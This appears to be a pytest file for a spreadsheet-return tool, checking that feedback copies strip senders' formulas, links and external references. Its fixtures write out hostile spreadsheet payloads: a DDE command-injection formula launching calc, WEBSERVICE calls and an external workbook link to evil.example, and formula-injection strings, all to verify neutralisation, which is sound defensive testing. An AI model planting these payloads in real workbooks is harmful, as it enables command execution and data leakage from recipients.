"""Feedback copies go out from the company address: they carry none of the sender's formulas or links, keep the
returned file's values (cached totals too), select one sheet, and store comments where every reader finds them.

All real files: returns made with openpyxl (hostile ones) and with LibreOffice, ingested through the public API,
and the copies read back with zipfile, openpyxl and python-calamine (Excel's reading of text).
"""

from __future__ import annotations

import io
import math
import posixpath
import re
import shutil
import zipfile
from pathlib import Path

import localc
import openpyxl
import pytest
from conftest import sent_file
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import PatternFill
from openpyxl.workbook.defined_name import DefinedName
from python_calamine import CalamineWorkbook

from sheetplan import api
from sheetplan.demo.simulate import input_areas
from sheetplan.problems import Problem
from sheetplan.returns.feedback import feedback_path, write_feedback_copies
from sheetplan.returns.ingest import FileOutcome, IngestReport
from sheetplan.workspace.labels import catalogue
from sheetplan.xlsx.layout import Area
from sheetplan.xlsx.structure import check_workbook

MONTH = "2027-03"
EVIL = {  # offset in the in_revenue block -> what the sender typed there
    0: "=cmd|' /C calc'!A0",
    1: '=WEBSERVICE("http://evil.example/x")',
    2: '=HYPERLINK("http://evil.example/","click")',
    3: "=[1]Sheet1!$A$1",
}
TOTAL_EVIL = '=WEBSERVICE("http://evil.example/total")'
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


# --- building returns ---------------------------------------------------------------------------------------


def with_external_link(path: Path) -> None:
    """Add an external workbook link part (what Excel writes for =[1]Sheet1!A1) to a saved package."""
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    buffer = io.BytesIO()
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/workbook.xml":
                data = data.replace(b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rIdX"/>'
                                                  b"</externalReferences>")
            elif info.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b"</Relationships>", f'<Relationship Id="rIdX" Type="{rel}externalLink" '
                                    'Target="externalLinks/externalLink1.xml"/></Relationships>'.encode())
            elif info.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" '
                                    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
                                    b'externalLink+xml"/></Types>')
            target.writestr(info, data)
        target.writestr("xl/externalLinks/externalLink1.xml", (
            '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="'
            'http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1">'
            '<sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'))
        target.writestr("xl/externalLinks/_rels/externalLink1.xml.rels", (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            f'Id="rId1" Type="{rel}externalLinkPath" Target="http://evil.example/book.xlsx" TargetMode="External"/>'
            "</Relationships>"))
    path.write_bytes(buffer.getvalue())


def hostile_return(template: Path, target: Path) -> dict:
    """A month report whose input cells hold formulas that call out, with a link to another file, a hyperlink
    to a web site, a name pointing outside, a formatting rule that calls out and a total overwritten."""
    book = openpyxl.load_workbook(template)
    area = input_areas(book)["in_revenue"]
    sheet = book[area.sheet]
    cells = [sheet.cell(area.first_row + 1 + i, area.first_col + 1) for i in range(area.last_row - area.first_row + 1)]
    for offset, formula in EVIL.items():
        cells[offset].value = formula
    cells[4].value = 12
    cells[4].hyperlink = "http://evil.example/link"
    total = sheet.cell(area.last_row + 2, area.first_col + 1)  # the block's SUM, a locked cell
    assert str(total.value).startswith("=SUM(")
    sheet.protection.sheet = False
    total.value = TOTAL_EVIL
    book.defined_names["evil"] = DefinedName("evil", attr_text="[1]Sheet1!$A$1")
    sheet.conditional_formatting.add(f"{cells[0].coordinate}:{cells[-1].coordinate}", FormulaRule(
        formula=['ISNUMBER(WEBSERVICE("http://evil.example/cf"))'], fill=PatternFill("solid", fgColor="FF0000")))
    target.parent.mkdir(parents=True, exist_ok=True)
    book.save(target)
    with_external_link(target)
    return {"sheet": area.sheet, "cells": {cells[o].coordinate: f for o, f in EVIL.items()},
            "total": total.coordinate, "linked": cells[4].coordinate}


def formulas_of(path: Path) -> dict[tuple[str, str], str]:
    book = openpyxl.load_workbook(path)
    return {(s.title, c.coordinate): c.value for s in book.worksheets for row in s.iter_rows() for c in row
            if c.data_type == "f"}


def parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def assert_plain_package(path: Path) -> None:
    """No part, relationship or name that reaches outside; every relationship target relative and present;
    exactly one selected sheet, the first; comments where Excel (and ExcelJS) put them."""
    package = parts(path)
    assert not [n for n in package if re.search(r"externalLink|drawings/drawing|media/|pivot|tables/", n)]
    selected = 0
    for name, body in package.items():
        if name.endswith(".rels"):
            folder, _, file = name.rpartition("_rels/")
            owner = folder + file[: -len(".rels")]
            for target in re.findall(rb'Target="([^"]*)"', body):
                target = target.decode()
                assert not target.startswith("/"), (name, target)
                assert posixpath.normpath(posixpath.join(posixpath.dirname(owner), target)) in package, target
            assert b"External" not in body, name
            if b"/comments" in body:
                assert re.search(rb'Target="\.\./comments\d+\.xml"', body), body
        elif name.startswith("xl/worksheets/"):
            assert b"<hyperlink" not in body
            selected += len(re.findall(rb'tabSelected="(?:1|true)"', body))
    assert selected == 1
    book = openpyxl.load_workbook(path)
    assert book.worksheets[0].sheet_view.tabSelected and book.active.title == book.worksheets[0].title
    workbook = package["xl/workbook.xml"].decode()
    assert "externalReference" not in workbook
    found = re.findall(r'<definedName name="([^"]*)"[^>]*>([^<]*)</definedName>', workbook)
    names = [ref.replace("&apos;", "'").replace("&amp;", "&") for name, ref in found if not name.startswith("_xlnm.")]
    assert names and all(Area.parse(n).sheet in book.sheetnames for n in names)
    # the Problems sheet's header row repeats on printed pages: a sheet-local name of its own sheet
    printed = [re.fullmatch(r"'?(.+?)'?!\$\d+:\$\d+", ref.replace("&apos;", "'")) for name, ref in found
               if name.startswith("_xlnm.")]
    assert all(m and m.group(1) in book.sheetnames for m in printed), printed
    assert check_workbook(path) == []


def shown(path: Path, sheet: str) -> dict[str, object]:
    """A sheet as Excel shows its stored values (calamine decodes _xHHHH_ as Excel does)."""
    rows = CalamineWorkbook.from_path(str(path)).get_sheet_by_name(sheet).to_python(skip_empty_area=False)
    return {openpyxl.utils.get_column_letter(c + 1) + str(r + 1): v for r, row in enumerate(rows)
            for c, v in enumerate(row) if v != ""}


# --- hostile formulas and links ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile(make_workspace):
    ws = make_workspace("feedback-hostile", approvals=False)
    inbox = ws.folder("inbox")
    kept = hostile_return(sent_file(ws, "month", "P004"), inbox / "hostile.xlsx")
    orphan_template = sent_file(ws, "month", "P005")
    lost = hostile_return(orphan_template, inbox / "no-template.xlsx")
    orphan_template.unlink()  # the template file is gone: none of the return's formulas can be trusted
    report = api.ingest(ws, [inbox])
    return ws, report, {"hostile.xlsx": kept, "no-template.xlsx": lost}


def test_a_hostile_return_comes_back_with_no_formula_and_no_link_of_its_own(hostile):
    ws, report, made = hostile
    outcome = next(o for o in report.outcomes if o.name == "hostile.xlsx")
    assert outcome.status == "rejected"
    copy = feedback_path(ws, outcome.name)
    assert copy in report.feedback
    assert_plain_package(copy)
    template = formulas_of(sent_file(ws, "month", "P004"))
    mine = formulas_of(copy)
    assert mine and all(template.get(key) == formula for key, formula in mine.items()), \
        {k: f for k, f in mine.items() if template.get(k) != f}
    assert len(mine) == len(template) - 1  # every formula of the template is still there but the overwritten total
    xml = b"".join(body for name, body in parts(copy).items() if name.startswith("xl/worksheets/"))
    assert b"WEBSERVICE" not in b"".join(re.findall(rb"<f>.*?</f>|<formula>.*?</formula>", xml))
    sheet = made["hostile.xlsx"]["sheet"]
    book = openpyxl.load_workbook(copy)
    prefix = catalogue("en")["feedback"]["formula"].split("{")[0]
    for ref, formula in {**made["hostile.xlsx"]["cells"], made["hostile.xlsx"]["total"]: TOTAL_EVIL}.items():
        cell = book[sheet][ref]
        assert cell.data_type == "s" and cell.value == prefix + formula  # the formula's text, marked, inert
        assert cell.fill.fgColor.rgb.endswith("FFC7CE")
        if ref != made["hostile.xlsx"]["total"]:  # an input cell: its formula-in-input problem says why
            note = catalogue("en")["feedback"]["formula_note"]
            assert cell.comment is not None and note in cell.comment.text
    linked = book[sheet][made["hostile.xlsx"]["linked"]]
    assert linked.hyperlink is None and linked.value == 12
    assert "evil" not in book.defined_names
    assert not any(rule.formula and "WEBSERVICE" in " ".join(rule.formula)
                   for formatting in book[sheet].conditional_formatting for rule in formatting.rules)


def test_without_its_template_a_copy_holds_no_formula_at_all(hostile):
    """The template file was deleted: no formula is trusted; the sender's show as marked text, the template's
    totals keep only their value."""
    ws, report, made = hostile
    copy = feedback_path(ws, "no-template.xlsx")
    assert copy in report.feedback
    assert_plain_package(copy)
    assert formulas_of(copy) == {}
    book = openpyxl.load_workbook(copy)
    prefix = catalogue("en")["feedback"]["formula"].split("{")[0]
    for ref, formula in made["no-template.xlsx"]["cells"].items():
        assert book[made["no-template.xlsx"]["sheet"]][ref].value == prefix + formula


# --- every value survives as text ---------------------------------------------------------------------------


SENTINELS = {"111111.5": "INF", "222222.5": "NaN", "333333.5": "1e999"}
TEXTS = ["=cmd|' /C calc'!A0", "+1", "-x", "@SUM(A1)", "_x005F_x0041_ literal", "bell _x0007_ here"]
SHOWN_TEXTS = ["=cmd|' /C calc'!A0", "+1", "-x", "@SUM(A1)", "_x0041_ literal", "bell \x07 here"]


def odd_values_return(template: Path, target: Path) -> tuple[str, dict[str, object]]:
    """Numbers that are no numbers in the cell XML, and text as Excel stores it: formula-like, a literal
    _x0041_ (stored with its underscore escaped), a control character (stored as _x0007_)."""
    book = openpyxl.load_workbook(template)
    areas = input_areas(book)
    sheet = book[areas["in_quantity"].sheet]
    expected: dict[str, object] = {}
    for offset, (sentinel, text) in enumerate(SENTINELS.items()):
        cell = sheet.cell(areas["in_quantity"].first_row + 1 + offset, areas["in_quantity"].first_col + 1)
        cell.value = float(sentinel)
        expected[cell.coordinate] = text
    comment = areas["in_comment"]
    for offset, (text, seen) in enumerate(zip(TEXTS[:5], SHOWN_TEXTS[:5])):
        cell = sheet.cell(comment.first_row + 1 + offset, comment.first_col + 1)
        cell.value = text
        cell.data_type = "s"
        expected[cell.coordinate] = seen
    reason = areas["in_revision_reason"]
    cell = sheet.cell(reason.first_row + 1, reason.first_col + 1)
    cell.value, expected[cell.coordinate] = TEXTS[5], SHOWN_TEXTS[5]
    target.parent.mkdir(parents=True, exist_ok=True)
    book.save(target)
    buffer = io.BytesIO()
    with zipfile.ZipFile(target) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            data = source.read(info)
            for sentinel, text in SENTINELS.items():
                data = data.replace(f"<v>{sentinel}</v>".encode(), f"<v>{text}</v>".encode())
            out.writestr(info, data)
    target.write_bytes(buffer.getvalue())
    return sheet.title, expected


def test_every_value_a_return_or_the_store_holds_reaches_the_copy_as_text(make_workspace):
    ws = make_workspace("feedback-values", approvals=False)
    returned = ws.folder("inbox") / "odd.xlsx"
    sheet, expected = odd_values_return(sent_file(ws, "month", "P004"), returned)
    report = api.ingest(ws, [returned])
    outcome = report.outcomes[0]
    assert outcome.status == "rejected"
    assert {p.cell for p in outcome.errors if p.code == "not-a-number"} >= {
        c for c, v in expected.items() if v in SENTINELS.values()}
    copy = feedback_path(ws, outcome.name)
    assert copy in report.feedback
    assert_plain_package(copy)
    seen = shown(copy, sheet)
    assert {ref: seen.get(ref) for ref in expected} == expected
    book = openpyxl.load_workbook(copy)
    assert all(book[sheet][ref].data_type == "s" for ref in expected)  # text, never a formula
    assert all(book[sheet][ref].quotePrefix for ref, text in expected.items() if text[0] in "=+-@")

    # what the store holds about a problem, shown on the Problems sheet
    odd = [math.inf, -math.inf, math.nan, float("1e999"), "\x01\x02 control", "=cmd|' /C calc'!A0", "@x",
           "_x0041_", "line\r\nbreak"]
    problems = [Problem("not-a-number", "odd", file="odd-again.xlsx", sheet=sheet, cell=f"C{6 + i % 5}", value=v)
                for i, v in enumerate(odd)]
    again = shutil.copy(returned, returned.with_name("odd-again.xlsx"))
    outcome = FileOutcome(str(again), "odd-again.xlsx", "rejected", outcome.kind, outcome.owner, outcome.period,
                          outcome.revision, "en", problems=problems)
    written = write_feedback_copies(ws, IngestReport(outcomes=[outcome]))
    assert written == [feedback_path(ws, "odd-again.xlsx")]
    assert_plain_package(written[0])
    listing = shown(written[0], catalogue("en")["feedback"]["sheet"])
    assert [listing.get(f"C{3 + i}") for i in range(len(odd))] == [str(v) for v in odd]


# --- a LibreOffice return --------------------------------------------------------------------------------


def test_a_libreoffice_return_keeps_its_totals_and_selects_one_sheet(make_workspace):
    try:
        localc.require()
    except localc.LibreOfficeError as exc:
        pytest.fail(f"this test needs soffice and python3-uno: {exc}", pytrace=False)
    ws = make_workspace("feedback-libreoffice", approvals=False)
    template = sorted((ws.root / "outbox" / "company").rglob("*.xlsx"))[0]
    ref = openpyxl.load_workbook(template).defined_names["in_revenue"].attr_text
    rows, _cols = localc.shape(Area.parse(ref).plain)
    returned = ws.folder("inbox") / "company-libreoffice.xlsx"
    localc.fill_workbooks([(template, {"in_revenue": [[-5.0]] + [[1000.0]] * (rows - 1)}, returned)])
    report = api.ingest(ws, [returned])
    assert report.outcomes[0].status == "rejected"
    copy = feedback_path(ws, returned.name)
    assert copy in report.feedback
    assert_plain_package(copy)
    mine = formulas_of(copy)
    assert mine == formulas_of(template)  # LibreOffice kept the template's formulas: all of them stay
    sent = openpyxl.load_workbook(returned, data_only=True)
    back = openpyxl.load_workbook(copy, data_only=True)
    cached = {key: sent[key[0]][key[1]].value for key in mine}
    assert sum(isinstance(v, float | int) for v in cached.values()) >= len(mine) // 2  # LibreOffice stored results
    assert {key: back[key[0]][key[1]].value for key in mine} == cached
    area = Area.parse(ref)
    total = back[area.sheet].cell(area.last_row + 2, area.first_col + 1).value  # the block's SUM
    assert total == pytest.approx(-5.0 + 1000.0 * (rows - 1))
